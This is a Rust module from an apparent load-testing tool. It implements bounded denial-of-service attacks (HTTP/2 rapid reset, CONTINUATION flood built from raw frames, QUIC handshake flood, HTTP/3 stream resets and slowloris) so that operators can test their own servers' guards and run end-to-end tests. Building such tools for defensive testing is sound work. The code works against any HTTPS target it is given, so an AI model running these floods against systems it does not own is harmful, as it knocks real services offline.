//! Attack tools, for operators to try their own deployment's guards (`edge-load attack …`)
//! and for the e2e tests. Every run is bounded by a stream count and a time limit.
//!
//! `rapid-reset` (CVE-2023-44487): on one HTTP/2 connection, open a stream (HEADERS) and
//! cancel it (RST_STREAM) at once, again and again, never reading a response. A server that
//! keeps doing work for cancelled streams spends CPU for nothing; a guarded one closes the
//! connection.

use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use serde::Serialize;
use tokio::net::TcpStream;

use crate::LoadError;
use crate::conn::Target;

/// What an attack saw.
#[derive(Debug, Clone, Serialize)]
pub struct AttackReport {
    /// Streams opened and reset.
    pub streams: u64,
    /// The server ended the connection (GOAWAY or close) before the attack finished.
    pub closed_by_server: bool,
    /// How long until then (or until the attack finished), in milliseconds.
    pub elapsed_ms: u64,
    /// What ended it, when the server did.
    pub reason: Option<String>,
}

/// A TLS connection (the target's config, ALPN h2) for the raw-frame attacks; `usage` says
/// why a target without TLS cannot be attacked this way.
async fn tls_connect(
    target: &Target,
    usage: &str,
) -> Result<tokio_rustls::client::TlsStream<TcpStream>, LoadError> {
    let cfg: Arc<rustls::ClientConfig> = target
        .tls
        .clone()
        .ok_or_else(|| LoadError::Usage(usage.into()))?;
    let tcp = TcpStream::connect(target.addr)
        .await
        .map_err(io("connect"))?;
    let _ = tcp.set_nodelay(true);
    let name = rustls::pki_types::ServerName::try_from(target.host.clone())
        .map_err(|e| LoadError::Usage(e.to_string()))?;
    tokio_rustls::TlsConnector::from(cfg)
        .connect(name, tcp)
        .await
        .map_err(io("TLS handshake"))
}

fn io(context: &str) -> impl Fn(std::io::Error) -> LoadError + '_ {
    move |source| LoadError::Io {
        context: context.to_string(),
        source,
    }
}

/// Opens and resets up to `streams` streams on one HTTP/2 connection to `target` (TLS with
/// ALPN h2), for at most `within`. With `hold` zero each stream is reset right after its
/// HEADERS (most never reach the server's application: h2's budget of streams reset before
/// they were accepted is the guard); otherwise streams go out in batches of 50 that are
/// reset after `hold`, once the server is working on them (the application's guard).
pub async fn rapid_reset(
    target: &Target,
    path: &str,
    streams: u64,
    within: Duration,
    hold: Duration,
) -> Result<AttackReport, LoadError> {
    let tls = tls_connect(target, "rapid-reset needs HTTPS (HTTP/2 over TLS)").await?;
    let (mut send, conn) = h2::client::Builder::new()
        .max_concurrent_reset_streams(usize::MAX)
        .handshake::<_, Bytes>(tls)
        .await
        .map_err(|e| LoadError::Io {
            context: "HTTP/2 handshake".into(),
            source: std::io::Error::other(e.to_string()),
        })?;
    let (ended_tx, mut ended_rx) = tokio::sync::oneshot::channel::<String>();
    tokio::spawn(async move {
        let reason = match conn.await {
            Ok(()) => "connection closed".to_string(),
            Err(e) => e.to_string(),
        };
        let _ = ended_tx.send(reason);
    });
    let uri = format!("https://{}{path}", target.host);
    let start = Instant::now();
    let mut sent = 0;
    let mut reason = None;
    let mut held = Vec::new();
    while sent < streams && start.elapsed() < within {
        if let Ok(r) = ended_rx.try_recv() {
            reason = Some(r);
            break;
        }
        send = match tokio::time::timeout(Duration::from_secs(2), send.ready()).await {
            Ok(Ok(s)) => s,
            Ok(Err(e)) => {
                reason = Some(e.to_string());
                break;
            }
            Err(_) => {
                reason = Some("no stream credit for 2 s".into());
                break;
            }
        };
        let req = match http::Request::get(&uri).body(()) {
            Ok(r) => r,
            Err(e) => return Err(LoadError::Usage(e.to_string())),
        };
        match send.send_request(req, true) {
            // Dropping the response future of an open stream sends RST_STREAM(CANCEL).
            Ok((resp, _)) if hold.is_zero() => drop(resp),
            Ok((resp, _)) => held.push(resp),
            Err(e) => {
                reason = Some(e.to_string());
                break;
            }
        }
        sent += 1;
        if held.len() >= 50 {
            tokio::time::sleep(hold).await;
            held.clear();
        }
        if sent % 64 == 0 {
            // Let the connection task write what is queued.
            tokio::task::yield_now().await;
        }
    }
    if reason.is_none() {
        // The server may close right after the last stream: give it a moment to say so.
        if let Ok(Ok(r)) = tokio::time::timeout(Duration::from_millis(500), ended_rx).await {
            reason = Some(r);
        }
    }
    Ok(AttackReport {
        streams: sent,
        closed_by_server: reason.is_some(),
        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
        reason,
    })
}

/// A QUIC client endpoint for `target` (its TLS config must allow h3).
fn quic_endpoint(target: &Target) -> Result<quinn::Endpoint, LoadError> {
    let cfg = target
        .tls
        .clone()
        .ok_or_else(|| LoadError::Usage("QUIC needs --ca or --insecure".into()))?;
    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from((*cfg).clone())
        .map_err(|e| LoadError::Tls(e.to_string()))?;
    let local: std::net::SocketAddr = if target.addr.is_ipv6() {
        std::net::SocketAddr::from(([0u16; 8], 0))
    } else {
        std::net::SocketAddr::from(([0u8; 4], 0))
    };
    let mut endpoint = quinn::Endpoint::client(local).map_err(io("QUIC endpoint"))?;
    endpoint.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
    Ok(endpoint)
}

/// What a QUIC handshake flood saw.
#[derive(Debug, Clone, Serialize)]
pub struct HandshakeReport {
    pub attempts: u64,
    pub completed: u64,
    pub failed: u64,
    pub elapsed_ms: u64,
}

/// Starts `connections` QUIC handshakes at once (quinn follows Retry as any client would),
/// closing each as soon as it completes; at most `within`.
pub async fn quic_handshakes(
    target: &Target,
    connections: u64,
    within: Duration,
) -> Result<HandshakeReport, LoadError> {
    let endpoint = quic_endpoint(target)?;
    let start = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let connecting = endpoint.connect(target.addr, &target.host);
        tasks.spawn(async move {
            let Ok(connecting) = connecting else {
                return false;
            };
            match tokio::time::timeout(Duration::from_secs(5), connecting).await {
                Ok(Ok(conn)) => {
                    conn.close(0u32.into(), b"done");
                    true
                }
                _ => false,
            }
        });
    }
    let (mut completed, mut failed) = (0, 0);
    let deadline = tokio::time::sleep(within);
    tokio::pin!(deadline);
    loop {
        tokio::select! {
            next = tasks.join_next() => match next {
                Some(Ok(true)) => completed += 1,
                Some(_) => failed += 1,
                None => break,
            },
            () = &mut deadline => {
                failed += tasks.len() as u64;
                tasks.abort_all();
                break;
            }
        }
    }
    endpoint.wait_idle().await;
    Ok(HandshakeReport {
        attempts: connections,
        completed,
        failed,
        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
    })
}

/// HTTP/3 stream resets: on one QUIC connection, requests in batches of 50, each reset
/// (RESET_STREAM + STOP_SENDING, H3_REQUEST_CANCELLED) `hold` after it was sent. Up to
/// `streams`, at most `within`.
pub async fn h3_resets(
    target: &Target,
    path: &str,
    streams: u64,
    within: Duration,
    hold: Duration,
) -> Result<AttackReport, LoadError> {
    let endpoint = quic_endpoint(target)?;
    let quic_err = |e: &dyn std::fmt::Display| LoadError::Io {
        context: "QUIC".into(),
        source: std::io::Error::other(e.to_string()),
    };
    let conn = endpoint
        .connect(target.addr, &target.host)
        .map_err(|e| quic_err(&e))?
        .await
        .map_err(|e| quic_err(&e))?;
    let (mut driver, mut send) = h3::client::new(h3_quinn::Connection::new(conn))
        .await
        .map_err(|e| quic_err(&e))?;
    let (ended_tx, mut ended_rx) = tokio::sync::oneshot::channel::<String>();
    tokio::spawn(async move {
        let e = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
        let _ = ended_tx.send(e.to_string());
    });
    let uri = format!("https://{}{path}", target.host);
    let start = Instant::now();
    let mut sent = 0;
    let mut reason = None;
    let mut held = Vec::new();
    while sent < streams && start.elapsed() < within {
        if let Ok(r) = ended_rx.try_recv() {
            reason = Some(r);
            break;
        }
        let req = http::Request::get(&uri)
            .body(())
            .map_err(|e| LoadError::Usage(e.to_string()))?;
        match tokio::time::timeout(Duration::from_secs(2), send.send_request(req)).await {
            Ok(Ok(mut stream)) => {
                if stream.finish().await.is_err() {
                    reason = Some("stream refused".into());
                    break;
                }
                held.push(stream);
            }
            Ok(Err(e)) => {
                reason = Some(e.to_string());
                break;
            }
            Err(_) => {
                reason = Some("no stream credit for 2 s".into());
                break;
            }
        }
        sent += 1;
        if held.len() >= 50 {
            tokio::time::sleep(hold).await;
            for mut s in held.drain(..) {
                s.stop_sending(h3::error::Code::H3_REQUEST_CANCELLED);
            }
        }
    }
    if reason.is_none()
        && let Ok(Ok(r)) = tokio::time::timeout(Duration::from_millis(500), ended_rx).await
    {
        reason = Some(r);
    }
    Ok(AttackReport {
        streams: sent,
        closed_by_server: reason.is_some(),
        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
        reason,
    })
}

/// What a CONTINUATION flood saw.
#[derive(Debug, Clone, Serialize)]
pub struct ContinuationReport {
    /// Header block bytes sent before the server closed (or the cap was reached).
    pub bytes_sent: u64,
    pub frames_sent: u64,
    pub closed_by_server: bool,
    pub elapsed_ms: u64,
}

fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(ty);
    f.push(flags);
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A literal header field without indexing (HPACK §6.2.2), new name, short strings.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = vec![0x00];
    for s in [name, value] {
        // 7-bit length prefix, not Huffman-coded; both are under 127 bytes here.
        out.push(s.len().min(126) as u8);
        out.extend_from_slice(&s[..s.len().min(126)]);
    }
    out
}

/// CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS frame without END_HEADERS, then
/// CONTINUATION frames of new header fields that never end the block, until the server
/// closes the connection, `max_bytes` were sent or `within` passed. Raw frames over TLS (ALPN
/// h2): no client library sends this.
pub async fn continuation(
    target: &Target,
    max_bytes: u64,
    within: Duration,
) -> Result<ContinuationReport, LoadError> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let tls = tls_connect(target, "the CONTINUATION flood needs HTTPS").await?;
    let (mut rd, mut wr) = tokio::io::split(tls);
    let closed = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let reader = {
        let closed = closed.clone();
        tokio::spawn(async move {
            let mut buf = [0u8; 4096];
            loop {
                match rd.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => {}
                }
            }
            closed.store(true, std::sync::atomic::Ordering::Relaxed);
        })
    };
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    // :method GET, :scheme https, :path / (static table), :authority.
    let mut block = vec![0x82, 0x87, 0x84];
    block.extend(literal(b":authority", target.host.as_bytes()));
    hello.extend(frame(0x1, 0x1, 1, &block)); // HEADERS: END_STREAM, not END_HEADERS
    wr.write_all(&hello).await.map_err(io("write"))?;
    let start = Instant::now();
    let mut bytes = block.len() as u64;
    let mut frames = 1;
    let mut i = 0u64;
    while bytes < max_bytes && start.elapsed() < within {
        if closed.load(std::sync::atomic::Ordering::Relaxed) {
            break;
        }
        let mut payload = Vec::with_capacity(1100);
        while payload.len() < 1000 {
            payload.extend(literal(format!("x-flood-{i}").as_bytes(), &[b'a'; 100]));
            i += 1;
        }
        if wr.write_all(&frame(0x9, 0, 1, &payload)).await.is_err() {
            break;
        }
        bytes += payload.len() as u64;
        frames += 1;
    }
    let _ = tokio::time::timeout(Duration::from_secs(2), reader).await;
    Ok(ContinuationReport {
        bytes_sent: bytes,
        frames_sent: frames,
        closed_by_server: closed.load(std::sync::atomic::Ordering::Relaxed),
        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
    })
}

/// What a slowloris run saw.
#[derive(Debug, Clone, Serialize)]
pub struct SlowlorisReport {
    pub opened: u64,
    /// Connections the server closed before the run ended.
    pub closed_by_server: u64,
    /// The longest a connection stayed open, in milliseconds (until the server closed it, or
    /// the run ended).
    pub longest_open_ms: u64,
}

/// Raises this process's open-file limit to its hard limit (thousands of sockets).
pub fn raise_open_files() {
    use rustix::process::{Resource, getrlimit, setrlimit};
    let mut limit = getrlimit(Resource::Nofile);
    limit.current = limit.maximum;
    let _ = setrlimit(Resource::Nofile, limit);
}

/// Slowloris: `connections` plain TCP connections to `addr` (spread over the loopback source
/// addresses `sources`, e.g. 127.0.0.2…), each sending a request head one header line every
/// `drip` and never finishing it, for `within`.
pub async fn slowloris(
    addr: std::net::SocketAddr,
    sources: &[std::net::IpAddr],
    connections: u64,
    drip: Duration,
    within: Duration,
) -> Result<SlowlorisReport, LoadError> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    raise_open_files();
    let start = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    let mut opened = 0;
    for i in 0..connections {
        let src = sources[(i as usize) % sources.len().max(1)];
        let sock = if src.is_ipv4() {
            tokio::net::TcpSocket::new_v4()
        } else {
            tokio::net::TcpSocket::new_v6()
        }
        .map_err(io("socket"))?;
        sock.bind(std::net::SocketAddr::new(src, 0))
            .map_err(io("bind"))?;
        let Ok(mut s) = sock.connect(addr).await else {
            continue;
        };
        opened += 1;
        tasks.spawn(async move {
            let opened_at = Instant::now();
            if s.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                .await
                .is_err()
            {
                return (true, opened_at.elapsed());
            }
            let mut n = 0u64;
            let mut buf = [0u8; 1024];
            loop {
                tokio::select! {
                    r = s.read(&mut buf) => match r {
                        // An answer (408) or a close: either way the server ended it.
                        Ok(0) | Err(_) => return (true, opened_at.elapsed()),
                        Ok(_) => {}
                    },
                    () = tokio::time::sleep(drip) => {
                        n += 1;
                        let line = format!("X-Slow-{n}: a\r\n");
                        if s.write_all(line.as_bytes()).await.is_err() {
                            return (true, opened_at.elapsed());
                        }
                    }
                }
                if start.elapsed() >= within {
                    return (false, opened_at.elapsed());
                }
            }
        });
    }
    let mut closed = 0;
    let mut longest = Duration::ZERO;
    while let Some(r) = tasks.join_next().await {
        if let Ok((by_server, open)) = r {
            closed += u64::from(by_server);
            longest = longest.max(open);
        }
    }
    Ok(SlowlorisReport {
        opened,
        closed_by_server: closed,
        longest_open_ms: u64::try_from(longest.as_millis()).unwrap_or(u64::MAX),
    })
}
